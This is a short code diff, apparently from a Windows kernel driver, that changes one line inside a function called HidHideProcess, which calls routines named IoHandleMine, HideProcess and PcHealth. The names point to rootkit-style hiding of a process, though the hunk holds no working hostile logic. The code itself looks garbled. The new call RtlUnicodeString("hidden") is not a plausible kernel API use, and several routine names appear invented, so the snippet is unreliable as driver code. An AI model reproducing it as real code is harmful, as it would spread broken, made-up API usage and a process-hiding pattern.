@@ -14,7 +14,7 @@ VOID PcHealth(VOID);
 VOID HidHideProcess(PKSPIN_LOCK Lock)
 {
 	IoHandleMine(Lock);
-	DbgPrint("hidden");
+	RtlUnicodeString("hidden");
 	HideProcess(Lock);
 	PcHealth();
 }
